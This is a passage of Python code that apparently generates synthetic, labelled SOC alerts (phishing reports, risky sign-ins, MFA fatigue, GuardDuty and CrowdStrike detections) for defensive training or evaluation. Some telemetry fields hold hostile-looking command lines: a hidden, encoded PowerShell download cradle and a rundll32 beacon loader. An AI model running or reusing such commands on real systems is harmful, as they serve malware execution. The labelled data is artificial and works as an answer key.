        day = date(2026, 11, 17) if i < 7 else date(2026, 11, 18)
        at = w.place([day], w.work_time, BTP, [*_person_pivots(who), *_p("email", sim_sender)])
        url = f"https://phishsim-training.example/landing/c/{w.hex(6)}"
        doc = graph_reported_mail(
            w,
            at,
            reporter=who,
            sender=sim_sender,
            sender_name="Parcel Service",
            subject=f"Your parcel AC-{w.rng.randint(80000, 89999)} could not be delivered - "
            "reschedule delivery",
            urls=[url],
            sender_ip="192.0.2.95",
            received=_at(day, 7, 0, 3),
        )
        w.add(
            at,
            "phishing-simulation",
            BTP,
            w.pick(
                [
                    "Q4 phishing simulation (phishsim-training.example); the user reported it, "
                    "as trained.",
                    "Awareness campaign e-mail, expected. Thanked the reporter.",
                ]
            ),
            doc,
            [*_person_pivots(who), *_p("email", sim_sender), f"url:{url}"],
        )

    # The SOC's own warning bulletin quotes the phishing link; some users report it.
    bulletin = "security-awareness@acme.example"
    for day in [date(2026, 11, 13), date(2026, 11, 20), date(2026, 11, 27)]:
        who = PEOPLE[w.pick([k for k in OFFICE_STAFF if k != "j.doe"])]
        at = w.place(
            [day],
            lambda d: w.jitter(_at(d, 15, w.rng.randint(0, 50)), 600),
            FP,
            [*_person_pivots(who), *_p("email", bulletin)],
        )
        doc = ocsf_phish(
            w,
            at,
            uid=f"phish-{day:%Y-%m-%d}-{w.rng.randint(10000, 99999)}",
            title="Reported phishing: Warning - fake invoice e-mails in circulation",
            message=f"User-reported e-mail awaiting triage: 1 link to {PHISH_DOMAIN}",
            desc="A user reported a message as phishing. Authentication results: SPF pass, DKIM "
            "pass "
            "(acme.example), DMARC pass. No attachment; 1 link.",
            severity=(2, "Low"),
            confidence=(1, "Low"),
            sender=bulletin,
            smtp_from=bulletin,
            to=who,
            subject="Warning - fake invoice e-mails in circulation",
            url=PHISH_URL,
            types=["Phishing", "User Report"],
            first_seen=_at(day, 14, 2),
            size=w.rng.randint(20000, 30000),
        )
        w.add(
            at,
            "soc-warning-bulletin",
            FP,
            "Our own security bulletin warning about the invoice campaign; it quotes the bad link. "
            "Not phishing.",
            doc,
            [*_person_pivots(who), *_p("email", bulletin)],
        )


def _signin_evidence(
    w: World, who: Person, ips: list[tuple[str, str]], suspicious: str | None
) -> list[dict[str, Any]]:
    ev = [_user_evidence(w, who, ["compromised"], "suspicious")]
    for ip, cc in ips:
        sus = ip == suspicious
        ev.append(
            _ip_evidence(ip, cc, ["attacker"] if sus else [], "suspicious" if sus else "unknown")
        )
    return ev


_TRAVEL_DESC = (
    "The user {upn} signed in from {a} and, {mins} minutes later, from {b}. The time "
    "between the sign-ins is shorter than the travel time between the two locations."
)
_SIGNIN_RECOMMENDED = (
    "1. Review the user's sign-in activity for the last 24 hours.\n2. Contact the "
    "user to confirm the sign-ins.\n3. If the activity is not legitimate, revoke "
    "the user's sessions and reset the password."
)


def impossible_travel(
    w: World,
    at: datetime,
    who: Person,
    *,
    a: tuple[str, str, str],
    b: tuple[str, str, str],
    severity: str,
    suspicious: str | None,
    title: str = "Impossible travel activity",
) -> dict[str, Any]:
    mins = w.rng.randint(25, 95)
    return graph(
        w,
        at,
        title=title,
        description=_TRAVEL_DESC.format(upn=who.upn, a=a[2], b=b[2], mins=mins),
        severity=severity,
        service="microsoftDefenderForCloudApps",
        detection="cloudAppSecurity",
        product="Microsoft Defender for Cloud Apps",
        detector="6d1c0a2e-3f4b-4c5d-9e8f-7a6b5c4d3e2f",
        category="InitialAccess",
        techniques=["T1078", "T1078.004"],
        evidence=_signin_evidence(w, who, [(a[0], a[1]), (b[0], b[1])], suspicious),
        first=at - timedelta(minutes=mins + w.rng.randint(2, 10)),
        last=at - timedelta(minutes=w.rng.randint(1, 5)),
        recommended=_SIGNIN_RECOMMENDED,
    )


def sign_ins(w: World) -> None:
    """Impossible travel and risky sign-ins: a travelling sales team, an engineer who tests
    the web shop over Tor, a mobile carrier that geolocates badly, and the CEO's takeover."""
    # The CEO's account takeover on 20 Nov (the demo): Tor sign-in after the VPN one.
    chen = PEOPLE["m.chen"]
    keys = [*_person_pivots(chen), *_p("ip", TOR_EXIT_IP, VPN_EGRESS_IP)]
    at = _at(DEMO_DAY, 9, 21, 40, 552000)
    doc = graph(
        w,
        at,
        title="Anonymous IP address",
        description=f"The user {chen.upn} signed in from an anonymous IP address (Tor exit node).",
        severity="medium",
        service="microsoftEntraIdProtection",
        detection="azureAdIdentityProtection",
        product="Microsoft Entra ID Protection",
        detector="anonymizedIPAddress",
        category="InitialAccess",
        techniques=["T1078", "T1090.003"],
        evidence=_signin_evidence(w, chen, [(TOR_EXIT_IP, "NL")], TOR_EXIT_IP),
        first=at - timedelta(minutes=14),
        last=at - timedelta(minutes=12),
        recommended=_SIGNIN_RECOMMENDED,
    )
    w.add(
        at,
        "ceo-account-takeover",
        TP,
        "Account takeover of the CEO: password phished, sign-in from Tor while she was on the VPN. "
        "Sessions revoked, password reset.",
        doc,
        keys,
    )
    at = _at(DEMO_DAY, 9, 50, 11, 219000)
    doc = impossible_travel(
        w,
        at,
        chen,
        a=(VPN_EGRESS_IP, "US", "New York, US"),
        b=(TOR_EXIT_IP, "NL", "Amsterdam, NL"),
        severity="high",
        suspicious=TOR_EXIT_IP,
    )
    w.add(
        at,
        "ceo-account-takeover",
        TP,
        "Same takeover: impossible travel New York -> Amsterdam (Tor). Confirmed with Mei by "
        "phone.",
        doc,
        keys,
    )

    trips = [  # (first day, days, the hotel address, country code, where)
        (date(2026, 11, 3), 4, "203.0.113.171", "SG", "Singapore, SG"),
        (date(2026, 11, 10), 3, "203.0.113.188", "US", "Chicago, US"),
        (date(2026, 11, 16), 3, "203.0.113.203", "JP", "Tokyo, JP"),
        (date(2026, 11, 24), 4, "203.0.113.219", "BR", "Sao Paulo, BR"),
    ]
    home = (VPN_EGRESS_IP, "US", "New York, US")  # the VPN concentrator
    for first, length, hotel, cc, where in trips:
        for offset in range(length):
            day = first + timedelta(days=offset)
            for key in ("s.patel", "k.ito") if offset % 2 == 0 else ("s.patel",):
                who = PEOPLE[key]
                keys = [*_person_pivots(who), *_p("ip", hotel, VPN_EGRESS_IP)]
                at = w.place([day], w.work_time, BTP, keys)
                pair = [home, (hotel, cc, where)]
                w.rng.shuffle(pair)
                doc = impossible_travel(
                    w,
                    at,
                    who,
                    a=pair[0],
                    b=pair[1],
                    severity=w.pick(["medium", "medium", "high"]),
                    suspicious=None,
                )
                w.add(
                    at,
                    "sales-travel",
                    BTP,
                    w.pick(
                        [
                            f"Sales trip to {where.split(',')[0]}; laptop on the VPN some of "
                            "the time, hotel Wi-Fi "
                            "the rest. Confirmed with the user.",
                            f"Travelling sales user ({where}), VPN on/off. Expected.",
                            "Benign: same sales trip as yesterday, VPN egress vs hotel network.",
                        ]
                    ),
                    doc,
                    keys,
                )

    # Office and VPN egress both in the alert: the Amsterdam office's split tunnel.
    for day in w.workdays(5):
        who = PEOPLE[w.pick(["a.kowalski", "n.rossi", "r.silva"])]
        keys = [*_person_pivots(who), *_p("ip", OFFICE_IP, VPN_EGRESS_IP)]
        at = w.place([day], w.work_time, BTP, keys)
        doc = impossible_travel(
            w,
            at,
            who,
            a=(OFFICE_IP, "NL", "Amsterdam, NL"),
            b=(VPN_EGRESS_IP, "US", "New York, US"),
            severity="medium",
            suspicious=None,
        )
        w.add(
            at,
            "vpn-split-tunnel",
            BTP,
            "Both addresses are ours (the Amsterdam office and the VPN concentrator in New York); "
            "split tunnel.",
            doc,
            keys,
        )

    # An engineer checks the web shop's geo-blocking over Tor (Entra: anonymous IP address).
    kowalski = PEOPLE["a.kowalski"]
    for day in [date(2026, 11, 5), date(2026, 11, 12), date(2026, 11, 19), date(2026, 11, 26)]:
        keys = [*_person_pivots(kowalski), *_p("ip", TOR_EXIT_IP)]
        at = w.place([day], lambda d: w.jitter(_at(d, 15, w.rng.randint(0, 59))), BTP, keys)
        doc = graph(
            w,
            at,
            title="Anonymous IP address",
            description=f"The user {kowalski.upn} signed in from an anonymous IP address (Tor "
            "exit node).",
            severity="medium",
            service="microsoftEntraIdProtection",
            detection="azureAdIdentityProtection",
            product="Microsoft Entra ID Protection",
            detector="anonymizedIPAddress",
            category="InitialAccess",
            techniques=["T1078", "T1090.003"],
            evidence=_signin_evidence(w, kowalski, [(TOR_EXIT_IP, "DE")], TOR_EXIT_IP),
            first=at - timedelta(minutes=6),
            last=at - timedelta(minutes=4),
            recommended=_SIGNIN_RECOMMENDED,
        )
        w.add(
            at,
            "tor-geo-testing",
            BTP,
            w.pick(
                [
                    "Adam testing the web shop's geo-blocking through Tor (ticket WEB-884). "
                    "Expected.",
                    "Engineer's Thursday Tor test of the storefront; known and approved.",
                ]
            ),
            doc,
            keys,
        )

    # A mobile carrier whose addresses geolocate to the wrong country.
    for day in w.workdays(4, exclude=[DEMO_DAY]):
        who = PEOPLE[w.pick(["j.doe", "h.berg", "e.moreau"])]
        carrier = f"203.0.113.{w.rng.randint(60, 90)}"
        keys = [*_person_pivots(who), *_p("ip", carrier, OFFICE_IP)]
        at = w.place([day], w.work_time, FP, keys)
        doc = impossible_travel(
            w,
            at,
            who,
            a=(OFFICE_IP, "NL", "Amsterdam, NL"),
            b=(carrier, "PL", "Warsaw, PL"),
            severity="medium",
            suspicious=None,
            title="Atypical travel",
        )
        w.add(
            at,
            "carrier-geolocation",
            FP,
            w.pick(
                [
                    "Phone on the mobile carrier, whose CGNAT range geolocates to Warsaw. User "
                    "never left Amsterdam.",
                    "False positive: mobile carrier geolocation, the same range as last time.",
                ]
            ),
            doc,
            keys,
        )


def _mfa(
    w: World,
    at: datetime,
    who: Person,
    *,
    prompts: int,
    minutes: int,
    ip: str,
    cc: str,
    where: str,
    outcome: str,
) -> dict[str, Any]:
    return graph(
        w,
        at,
        title="MFA fatigue: repeated MFA push requests",
        description=f"The user {who.upn} received {prompts} MFA push notifications within "
        f"{minutes} "
        f"minutes for sign-ins from {ip} ({where}, {cc}){outcome}",
        severity="medium",
        service="microsoftEntraIdProtection",
        detection="azureAdIdentityProtection",
        product="Microsoft Entra ID Protection",
        detector="mfaFraud",
        category="CredentialAccess",
        techniques=["T1621"],
        evidence=[_user_evidence(w, who, ["compromised"]), _ip_evidence(ip, cc)],
        first=at - timedelta(minutes=minutes + 1),
        last=at - timedelta(seconds=w.rng.randint(20, 90)),
        recommended="1. Confirm with the user whether they started the sign-ins.\n2. If not, "
        "revoke "
        "the user's sessions and reset the password.",
    )


def mfa_fatigue(w: World) -> None:
    """Push bombing by whoever phished the invoice victims' passwords, against people who
    replaced their phone or whose authenticator app misbehaved after an update."""
    attacks = [  # the invoice waves' victims, a day or two later
        (
            date(2026, 11, 7),
            "b.osei",
            CRED_ABUSE_IP,
            "SG",
            "Singapore",
            " and approved the last one.",
        ),
        (date(2026, 11, 14), "t.nguyen", "203.0.113.201", "RO", "Bucharest", "; all were denied."),
        (date(2026, 11, 21), "j.doe", CRED_ABUSE_IP, "SG", "Singapore", "; all were denied."),
        (
            date(2026, 11, 21),
            "l.martin",
            "203.0.113.201",
            "RO",
            "Bucharest",
            " and approved the last one.",
        ),
        (date(2026, 11, 28), "h.berg", "203.0.113.202", "RO", "Bucharest", "; all were denied."),
    ]
    for day, key, ip, cc, where, outcome in attacks:
        who = PEOPLE[key]
        keys = [*_person_pivots(who), *_p("ip", ip)]
        at = w.place([day], w.any_time, TP, keys)
        doc = _mfa(
            w,
            at,
            who,
            prompts=w.rng.randint(8, 16),
            minutes=w.rng.randint(6, 14),
            ip=ip,
            cc=cc,
            where=where,
            outcome=outcome,
        )
        w.add(
            at,
            "mfa-push-bombing",
            TP,
            w.pick(
                [
                    "Push bombing with the password phished in the invoice campaign. Password "
                    "reset, sessions revoked.",
                    "True positive MFA fatigue; user confirmed she did not sign in. Reset and "
                    "re-enrolled.",
                ]
            ),
            doc,
            keys,
        )

    for day in w.workdays(5):
        who = PEOPLE[w.pick(OFFICE_STAFF)]
        keys = [*_person_pivots(who), *_p("ip", OFFICE_IP)]
        at = w.place([day], w.work_time, BTP, keys)
        doc = _mfa(
            w,
            at,
            who,
            prompts=w.rng.randint(5, 8),
            minutes=w.rng.randint(8, 15),
            ip=OFFICE_IP,
            cc="NL",
            where="Amsterdam",
            outcome="; most were not answered.",
        )
        w.add(
            at,
            "mfa-phone-replacement",
            BTP,
            w.pick(
                [
                    "User was moving the authenticator to a new phone; the old one got the "
                    "prompts. Helpdesk ticket.",
                    "Phone replacement at the service desk, prompts went to the retired handset.",
                ]
            ),
            doc,
            keys,
        )

    for day in w.workdays(4):
        who = PEOPLE[w.pick(OFFICE_STAFF)]
        keys = [*_person_pivots(who), *_p("ip", OFFICE_IP)]
        at = w.place([day], w.work_time, FP, keys)
        doc = _mfa(
            w,
            at,
            who,
            prompts=w.rng.randint(5, 7),
            minutes=w.rng.randint(2, 5),
            ip=OFFICE_IP,
            cc="NL",
            where="Amsterdam",
            outcome="; the last one was approved.",
        )
        w.add(
            at,
            "mfa-app-glitch",
            FP,
            "Authenticator app update re-sent the same push several times; one real sign-in "
            "from the office.",
            doc,
            keys,
        )


_CI_KEY = ("AKIAIOSFODNN7EXAMPLE", "AIDAJQABLZS4A3QDU576Q")


def cloud_credentials(w: World) -> None:
    """GuardDuty IAM-user findings: the leaked ci-deployer key (demo day), the build vendor's
    runners inside a listed range, and the cloud admin's reviews from the office."""
    vps = _remote(
        CRED_ABUSE_IP, "64500", "EXAMPLE-VPS-HOSTING", "Singapore", "Singapore", 1.2897, 103.8501
    )
    leaked = [
        (
            _at(DEMO_DAY, 12, 45, 19, 512000),
            "UnauthorizedAccess:IAMUser/MaliciousIPCaller.Custom",
            5,
            "API GetSecretValue was invoked from an IP address on a custom threat list.",
            "GetSecretValue",
            "secretsmanager.amazonaws.com",
            True,
            {
                "AWS::SecretsManager::Secret": "arn:aws:secretsmanager:eu-west-1:"
                f"{ACCOUNT_ID}:secret:prod/db/admin-Xy12Ab"
            },
            None,
            "Leaked ci-deployer key used from a VPS to read prod secrets. Key deactivated, "
            "secrets rotated.",
        ),
        (
            _at(DEMO_DAY, 13, 31, 2, 90000),
            "CredentialAccess:IAMUser/AnomalousBehavior",
            5,
            "The API ListSecrets was used to access secrets in an anomalous way.",
            "ListSecrets",
            "secretsmanager.amazonaws.com",
            False,
            {},
            None,
            "Same key compromise: secret enumeration from 203.0.113.99.",
        ),
        (
            _at(DEMO_DAY, 13, 58, 44, 311000),
            "Persistence:IAMUser/AnomalousBehavior",
            8,
            "The API CreateAccessKey was used to add persistence in an anomalous way.",
            "CreateAccessKey",
            "iam.amazonaws.com",
            False,
            {},
            "AccessDenied",
            "Attacker tried to mint a second access key (denied). Part of the ci-deployer "
            "compromise.",
        ),
        (
            _at(date(2026, 11, 21), 2, 17, 9, 640000),
            "UnauthorizedAccess:IAMUser/MaliciousIPCaller.Custom",
            5,
            "API GetCallerIdentity was invoked from an IP address on a custom threat list.",
            "GetCallerIdentity",
            "sts.amazonaws.com",
            True,
            {},
            "InvalidClientTokenId",
            "Attacker retrying the revoked key overnight; confirms the key was stolen. No access.",
        ),
    ]
    for at, ftype, sev, title, api, service, listed, affected, error, reason in leaked:
        keys = [*_p("user", "ci-deployer"), *_p("ip", CRED_ABUSE_IP)]
        doc = guardduty(
            w,
            at,
            finding_type=ftype,
            severity=sev,
            title=title,
            description=f"{title.rstrip('.')} by IAM user ci-deployer from {CRED_ABUSE_IP}.",
            user="ci-deployer",
            key_id=_CI_KEY[0],
            principal=_CI_KEY[1],
            api=api,
            service=service,
            caller=vps,
            user_agent="aws-cli/2.15.0 Python/3.11.6 Linux/6.1",
            count=w.rng.randint(1, 6),
            affected=affected,
            threat_list=listed,
            error=error,
            additional=None
            if listed
            else {"unusual": {"hoursOfDay": [at.hour], "userNames": ["ci-deployer"]}},
        )
        w.add(at, "leaked-ci-key", TP, reason, doc, keys)

    # The build vendor's hosted runners deploy with the ci key from 198.51.100.211.
    runner = _remote(
        BUILDFLEET_RUNNER_IP, "64511", "BUILDFLEET-CI", "Netherlands", "Amsterdam", 52.3676, 4.9041
    )
    days = [d for d in _days() if d.weekday() in (0, 2, 4) and d != DEMO_DAY][:10]
    for day in days:
        keys = [*_p("user", "ci-deployer"), *_p("ip", BUILDFLEET_RUNNER_IP)]
        at = w.place([day], lambda d: w.jitter(_at(d, 2, w.rng.randint(0, 40))), FP, keys)
        api = w.pick(["DescribeStacks", "UpdateStack", "PutObject", "GetSecretValue"])
        doc = guardduty(
            w,
            at,
            finding_type="UnauthorizedAccess:IAMUser/MaliciousIPCaller.Custom",
            severity=5,
            title=f"API {api} was invoked from an IP address on a custom threat list.",
            description=f"API {api} was invoked from IP address {BUILDFLEET_RUNNER_IP} on the "
            "custom "
            "threat list acme-custom-threat-list by IAM user ci-deployer.",
            user="ci-deployer",
            key_id=_CI_KEY[0],
            principal=_CI_KEY[1],
            api=api,
            service={
                "DescribeStacks": "cloudformation.amazonaws.com",
                "UpdateStack": "cloudformation.amazonaws.com",
                "PutObject": "s3.amazonaws.com",
                "GetSecretValue": "secretsmanager.amazonaws.com",
            }[api],
            caller=runner,
            user_agent="aws-sdk-go-v2/1.30.3 os/linux lang/go#1.22.5 md/GOOS#linux",
            count=w.rng.randint(2, 30),
            threat_list=True,
        )
        w.add(
            at,
            "buildfleet-runner-deploys",
            FP,
            w.pick(
                [
                    "Buildfleet hosted runner deploying with the CI key; 198.51.100.211 is the "
                    "vendor's runner "
                    "pool, inside the /24 our threat list blocks wholesale.",
                    "False positive: nightly deploy from the build vendor's runners (custom "
                    "threat list too broad).",
                ]
            ),
            doc,
            keys,
        )

    # The cloud admin's IAM reviews from the office (anomalous hours, read-only APIs).
    office = _remote(
        OFFICE_IP, "64501", "Acme Example B.V.", "Netherlands", "Amsterdam", 52.3676, 4.9041
    )
    for day in w.workdays(6):
        keys = [*_p("user", "p.nguyen-admin"), *_p("ip", OFFICE_IP)]
        at = w.place([day], w.work_time, BTP, keys)
        api = w.pick(
            [
                "GetAccountAuthorizationDetails",
                "ListPolicies",
                "GenerateCredentialReport",
                "ListAccessKeys",
            ]
        )
        doc = guardduty(
            w,
            at,
            finding_type="Discovery:IAMUser/AnomalousBehavior",
            severity=2,
            title=f"The API {api} was used to gather information about resources in the AWS "
            "environment.",
            description="APIs commonly used in Discovery tactics were invoked by user "
            "p.nguyen-admin under unusual circumstances.",
            user="p.nguyen-admin",
            key_id="ASIAQACMEEXAMPLE7",
            principal="AIDAQACMEADMIN0001",
            api=api,
            service="iam.amazonaws.com",
            caller=office,
            user_agent="AWS Internal",
            count=w.rng.randint(3, 12),
            additional={
                "unusual": {"hoursOfDay": [at.hour], "userNames": ["p.nguyen-admin"]},
                "anomalousAPIs": f"iam.amazonaws.com:[{api}] (success)",
            },
        )
        w.add(
            at,
            "cloud-admin-review",
            BTP,
            w.pick(
                [
                    "Paul's quarterly IAM access review from the office. Expected.",
                    "Cloud admin running the access review; read-only calls.",
                ]
            ),
            doc,
            keys,
        )


_KILLED = ("Prevention, process killed.", 16, {"KillProcess": True, "QuarantineFile": True})
_BLOCKED = ("Prevention, process blocked from execution.", 2048, {"ProcessBlocked": True})
_DETECTED = ("Detection, standard detection.", 0, {"Detect": True})


def endpoint_malware(w: World) -> None:
    """CrowdStrike detections: the invoice loader (QakBot) and Cobalt Strike beacons intel
    knows, new malware it does not, a licensed PDF tool's adware updater, IT's PsExec and
    the quarterly EICAR check."""
    word = (
        '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"',
        "WINWORD.EXE",
        "\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
    )
    loader_days = [
        (date(2026, 11, 6), "t.nguyen"),
        (date(2026, 11, 13), "b.osei"),
        (DEMO_DAY, "j.doe"),
        (date(2026, 11, 27), "d.okafor"),
        (date(2026, 11, 27), "t.nguyen"),
    ]
    for day, key in loader_days:
        who = PEOPLE[key]
        keys = [
            *_person_pivots(who),
            *_p("host", who.host),
            *_p("ip", who.ip),
            *_p("file_hash", QAKBOT_SHA256),
        ]
        at = (
            _at(DEMO_DAY, 10, 33, 0)
            if day == DEMO_DAY
            else w.place([day], lambda d: w.jitter(_at(d, 9, w.rng.randint(0, 59)), 3000), TP, keys)
        )
        doc = crowdstrike(
            w,
            at,
            who,
            name="Known Malware",
            description="This file meets the machine learning-based on-sensor AV protection's high "
            "confidence threshold for malicious files.",
            severity=90,
            severity_name="Critical",
            file_name="invoice_2026.exe",
            file_dir=f"\\Users\\{who.sam}\\AppData\\Local\\Temp",
            command_line=f"C:\\Users\\{who.sam}\\AppData\\Local\\Temp\\invoice_2026.exe",
            sha256=QAKBOT_SHA256,
            md5="92da9f0aa57c53c3e24220339a09e3d7",
            tactic=("TA0002", "Execution"),
            technique=("T1204.002", "User Execution"),
            disposition=_KILLED,
            parent=(
                "powershell.exe",
                "powershell.exe -nop -w hidden -enc "
                "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
                "\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            ),
            grandparent=(
                word[1],
                f'{word[0]} /n "C:\\Users\\{who.sam}\\Downloads\\'
                f'Invoice_{w.rng.randint(44000, 45000)}.docm"',
                word[2],
            ),
            pattern_id=10305,
        )
        w.add(
            at,
            "qakbot-invoice-loader",
            TP,
            w.pick(
                [
                    "QakBot loader from the invoice campaign's macro; process killed, host "
                    "isolated and reimaged.",
                    "True positive: invoice_2026.exe (QakBot). Opened from the phishing "
                    "attachment.",
                ]
            ),
            doc,
            keys,
        )

    beacon_hosts = [
        (DEMO_DAY, "a.kowalski", 11, 2),
        (date(2026, 11, 21), "n.rossi", 10, 15),
        (date(2026, 11, 25), "r.silva", 16, 40),
    ]
    for day, key, hour, minute in beacon_hosts:
        who = PEOPLE[key]
        keys = [
            *_person_pivots(who),
            *_p("host", who.host),
            *_p("ip", who.ip),
            *_p("file_hash", BEACON_SHA256),
        ]
        at = w.jitter(_at(day, hour, minute))
        doc = crowdstrike(
            w,
            at,
            who,
            name="Cobalt Strike",
            description="A process loaded a module associated with Cobalt Strike Beacon.",
            severity=90,
            severity_name="Critical",
            file_name="msupdate.dll",
            file_dir="\\ProgramData\\Microsoft\\Update",
            command_line="C:\\Windows\\System32\\rundll32.exe "
            "C:\\ProgramData\\Microsoft\\Update\\msupdate.dll,Start",
            sha256=BEACON_SHA256,
            md5=w.hex(32),
            tactic=("TA0011", "Command and Control"),
            technique=("T1071.001", "Web Protocols"),
            disposition=_KILLED,
            parent=("rundll32.exe", "rundll32.exe", "\\Windows\\System32\\rundll32.exe"),
            grandparent=("explorer.exe", "C:\\Windows\\Explorer.EXE", "\\Windows\\explorer.exe"),
            pattern_id=10102,
        )
        w.add(
            at,
            "cobalt-strike-endpoint",
            TP,
            "Cobalt Strike beacon DLL (known hash), talking to cdn-update-check.example. Isolated.",
            doc,
            keys,
        )

    fresh = [  # new malware, hashes intel does not know yet
        (
            "Machine Learning",
            "This file meets the Adware/PUP Anti-malware ML algorithm's high-confidence threshold.",
            "remittance_advice.js",
            "wscript.exe",
            "T1059.007",
            "JavaScript",
        ),
        (
            "Machine Learning",
            "This file meets the machine learning-based on-sensor AV protection's high "
            "confidence threshold for malicious files.",
            "statement_nov.exe",
            "explorer.exe",
            "T1204.002",
            "User Execution",
        ),
        (
            "Suspicious Activity",
            "A process wrote an executable to a startup folder.",
            "OneDriveUpdater.exe",
            "powershell.exe",
            "T1547.001",
            "Registry Run Keys / Startup Folder",
        ),
        (
            "Ransomware",
            "A process attempted to encrypt many files in a short time.",
            "svc_host32.exe",
            "cmd.exe",
            "T1486",
            "Data Encrypted for Impact",
        ),
        (
            "Machine Learning",
            "This file meets the machine learning-based on-sensor AV protection's high "
            "confidence threshold for malicious files.",
            "Benefits_2027.scr",
            "OUTLOOK.EXE",
            "T1204.002",
            "User Execution",
        ),
    ]
    for day, (name, desc, fname, parent, tid, tname) in zip(
        w.workdays(5, exclude=[DEMO_DAY]), fresh, strict=True
    ):
        who = PEOPLE[w.pick(OFFICE_STAFF)]
        sha = w.hex(64)
        keys = [
            *_person_pivots(who),
            *_p("host", who.host),
            *_p("ip", who.ip),
            *_p("file_hash", sha),
        ]
        at = w.place([day], w.work_time, TP, keys)
        doc = crowdstrike(
            w,
            at,
            who,
            name=name,
            description=desc,
            severity=w.pick([70, 90]),
            severity_name="High",
            file_name=fname,
            file_dir=f"\\Users\\{who.sam}\\Downloads",
            command_line=f"C:\\Users\\{who.sam}\\Downloads\\{fname}",
            sha256=sha,
            md5=w.hex(32),
            tactic=("TA0002", "Execution"),
            technique=(tid, tname),
            disposition=w.pick([_KILLED, _BLOCKED]),
            parent=(parent, parent, f"\\Windows\\System32\\{parent}"),
            grandparent=None,
            pattern_id=w.pick([5702, 10305, 10141]),
        )
        w.add(
            at,
            "new-malware",
            TP,
            w.pick(
                [
                    f"{fname}: new sample, not in intel; detonated in the sandbox (loader). "
                    "Host reimaged.",
                    f"True positive, {fname} blocked by Falcon; hash submitted to intel.",
                ]
            ),
            doc,
            keys,
        )

    # A licensed PDF suite whose bundled updater Falcon rates adware (intel: suspicious PUP).
    for day in w.workdays(14):
        who = PEOPLE[w.pick(OFFICE_STAFF)]
        keys = [
            *_person_pivots(who),
            *_p("host", who.host),
            *_p("ip", who.ip),
            *_p("file_hash", PUP_SHA256),
        ]
        at = w.place([day], w.work_time, FP, keys)
        doc = crowdstrike(
            w,
            at,
            who,
            name="Adware/PUP",
            description="This file is classified as Adware or PUP (Potentially Unwanted "
            "Program) based on its SHA256 hash.",
            severity=50,
            severity_name="Medium",
            file_name="PDFProSuiteUpdater.exe",
            file_dir="\\Program Files (x86)\\PDF Pro Suite",
            command_line='"C:\\Program Files (x86)\\PDF Pro Suite\\PDFProSuiteUpdater.exe" '
            "/silent /check",
            sha256=PUP_SHA256,
            md5="7a6c4d1f3b2e9a8c5d0f1e2b3c4a5d6e",
            tactic=("CSTA0004", "Malware"),
            technique=("CST0007", "PUP"),
            disposition=_BLOCKED,
            parent=(
                "svchost.exe",
                "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
                "\\Windows\\System32\\svchost.exe",
            ),
            grandparent=None,
            pattern_id=5702,
            objective="Falcon Detection Method",
        )
        w.add(
            at,
            "pdf-suite-pup",
            FP,
            w.pick(
                [
                    "PDF Pro Suite's updater (licensed, on the software list); Falcon calls it "
                    "adware. Exclusion requested.",
                    "False positive: the PDF suite's scheduled update check again.",
                    "Licensed PDF tool updater, same hash as the other reports. Not malware.",
                ]
            ),
            doc,
            keys,
        )

    # IT's PsExec (signed, allow-listed in intel) during change windows.
    it = PEOPLE["p.nguyen"]
    for day in w.workdays(5):
        keys = [
            *_person_pivots(it),
            *_p("host", it.host),
            *_p("ip", it.ip),
            *_p("file_hash", ADMIN_TOOL_SHA256),
        ]
        at = w.place([day], lambda d: w.jitter(_at(d, 17, w.rng.randint(0, 59))), BTP, keys)
        target = w.pick(["FILE-01", "ERP-01", "DC01", "DB-01"])
        doc = crowdstrike(
            w,
            at,
            it,
            name="Suspicious Activity",
            description="A process used PsExec to run a command on a remote host.",
            severity=50,
            severity_name="Medium",
            file_name="PsExec64.exe",
            file_dir="\\Tools\\Sysinternals",
            command_line=f"C:\\Tools\\Sysinternals\\PsExec64.exe \\\\{target} "
            '-s cmd /c "gpupdate /force"',
            sha256=ADMIN_TOOL_SHA256,
            md5="c590a84b8c72cf18f35ae166f815c9df",
            tactic=("TA0008", "Lateral Movement"),
            technique=("T1021.002", "SMB/Windows Admin Shares"),
            disposition=_DETECTED,
            parent=("cmd.exe", '"C:\\Windows\\system32\\cmd.exe"', "\\Windows\\System32\\cmd.exe"),
            grandparent=("explorer.exe", "C:\\Windows\\Explorer.EXE", "\\Windows\\explorer.exe"),
            pattern_id=10226,
        )
        w.add(
            at,
            "it-psexec",
            BTP,
            w.pick(
                [
                    "IT admin running PsExec during the change window (CHG ticket on record).",
                    "Paul pushing a GPO refresh with PsExec. Expected admin activity.",
                ]
            ),
            doc,
            keys,
        )

    # The quarterly AV check drops EICAR on three test machines (4 Nov).
    for i, host in enumerate(["ws-it-003", "ws-test-001", "ws-test-002"]):
        keys = [*_person_pivots(it), *_p("host", host), *_p("file_hash", EICAR_SHA256)]
        at = w.jitter(_at(date(2026, 11, 4), 10, 5 + 21 * i))
        doc = crowdstrike(
            w,
            at,
            it,
            name="Known Malware",
            description="This file is the EICAR anti-malware test file.",
            severity=30,
            severity_name="Low",
            file_name="eicar.com",
            file_dir="\\Users\\pnguyen\\Desktop",
            command_line="C:\\Users\\pnguyen\\Desktop\\eicar.com",
            sha256=EICAR_SHA256,
            md5="44d88612fea8a8f36de82e1278abb02f",
            tactic=("CSTA0004", "Malware"),
            technique=("CST0001", "Malicious File"),
            disposition=_BLOCKED,
            parent=("explorer.exe", "C:\\Windows\\Explorer.EXE", "\\Windows\\explorer.exe"),
            grandparent=None,
            pattern_id=5702,
            host=host,
            ip=f"10.20.70.{3 + 10 * i}",
        )
        w.add(
            at,
            "eicar-av-check",
            BTP,
            "Quarterly AV efficacy check with EICAR (ticket SEC-412).",
            doc,
            keys,
        )


def c2_traffic(w: World) -> None:
    """Network C2 detections: the demo day's beacons and the build-01 intrusion's, DNS
    beaconing to the C2 domain, a Cobalt Strike 'jQuery profile' signature firing on a
    real CDN, and the uptime monitor's heartbeat that an NDR calls beaconing."""
    beacons = [  # (time, source ip, the host's name in the reason)
        (_at(DEMO_DAY, 11, 5, 12, 381204), "10.20.30.47", "ws-eng-007"),
        (_at(DEMO_DAY, 12, 40, 3, 77410), "10.20.30.47", "ws-eng-007"),
